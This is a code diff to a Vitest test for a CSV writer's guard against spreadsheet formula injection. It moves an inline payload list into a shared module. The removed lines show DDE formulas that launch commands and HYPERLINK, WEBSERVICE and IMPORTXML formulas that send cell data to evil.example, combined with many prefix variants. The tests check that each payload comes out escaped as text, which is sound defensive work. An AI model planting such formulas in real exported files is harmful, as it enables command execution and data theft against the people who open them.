@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest'
 import { writeCsv } from '../../../server/features/sendings/csv.ts'
+import { plainFormulas } from '../../hostile/formulas.ts'
 
 /** Reads CSV as RFC 4180 has it, character by character, apart from the code under test. */
 const readCsv = (text: string) => {
@@ -23,43 +24,11 @@ const readCsv = (text: string) => {
   return rows.slice(0, -1)
 }
 
-const commands = [
-  "cmd|' /C calc'!A0",
-  'HYPERLINK("https://evil.example/?"&A1,"Click")',
-  'WEBSERVICE("https://evil.example/"&A1)',
-  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
-  'SUM(1+1)*cmd|calc!A0',
-  'DDE("cmd";"/C calc";"!A0")',
-  '1+1',
-  '2+5+cmd|calc!A0',
-]
-
-const starts = [
-  '=',
-  '+',
-  '-',
-  '@',
-  '\t=',
-  '\r=',
-  '\n=',
-  ' =',
-  '\u00a0=',
-  '\u200b=',
-  '\ufeff=',
-  '＝',
-  '＋',
-  '－',
-  '＠',
-  '|',
-]
-
-const attacks = starts.flatMap((start) => commands.map((command) => `${start}${command}`))
-
 test('there are more than fifty ways in which a spreadsheet could be made to run something', () => {
-  expect(new Set(attacks).size).toBeGreaterThan(50)
+  expect(new Set(plainFormulas).size).toBeGreaterThan(50)
 })
 
-test.each(attacks)('%j stays a text', (attack) => {
+test.each(plainFormulas)('%j stays a text', (attack) => {
   const [[cell = ''] = []] = readCsv(writeCsv([[attack, 1]]))
   expect(cell).toBe(`'${attack}`)
   expect(cell).not.toMatch(/^[\s\p{Cf}\p{Z}]*[=+\-@|%＝＋－＠]|^[\t\r\n]/u)
